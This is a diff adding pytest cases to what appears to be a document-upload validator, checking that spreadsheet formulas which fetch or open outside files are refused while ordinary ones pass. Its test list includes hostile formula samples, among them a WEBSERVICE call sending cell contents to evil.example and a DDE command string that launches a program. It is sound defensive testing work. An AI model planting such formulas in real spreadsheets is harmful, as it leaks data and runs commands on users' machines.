@@ -313,6 +313,40 @@ def test_a_picture_fetched_from_the_web_is_refused_in_plain_words():
     assert document_problem("docx", docx(body=on_a_share)) == DocumentProblem.LINKED_FILE
 
 
+def _formula(formula: str) -> bytes:
+    return xlsx(cells=f'<c r="C1"><f>{html.escape(formula, quote=False)}</f><v>0</v></c>')
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        'HYPERLINK("file://host/share/minutes.xlsx","Minutes")',
+        'HYPERLINK("\\\\host\\share\\minutes.xlsx")',
+        "HYPERLINK(A2)",
+        'HYPERLINK("https://"&A2)',
+        '_xlfn.WEBSERVICE("https://evil.example/?"&A1)',
+        'FILTERXML(B1,"//a")',
+        "cmd|' /C calc'!A0",
+        "[1]Budget!A1",
+    ],
+    ids=["file", "unc", "from-a-cell", "built", "webservice", "filterxml", "dde", "other-workbook"],
+)
+def test_excel_formulas_that_fetch_or_open_another_file_are_refused(formula):
+    assert document_problem("xlsx", _formula(formula)) == DocumentProblem.FORMULA_OUTSIDE
+
+
+def test_ordinary_excel_formulas_pass():
+    formulas = [
+        'HYPERLINK("https://www.gov.uk/","GOV.UK")',
+        'HYPERLINK("#Schools!A1", "Back to the list")',
+        "SUM(B1:B2)",
+        '"a|b [1]"&A1',
+        "SUM(Table1[Total])",
+    ]
+
+    assert [document_problem("xlsx", _formula(formula)) for formula in formulas] == [None] * 5
+
+
 def test_a_chart_workbook_embedded_in_a_word_document_is_checked_as_a_workbook():
     chart = _with(docx_parts(), **{"word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx()})
     with_macros = _with(
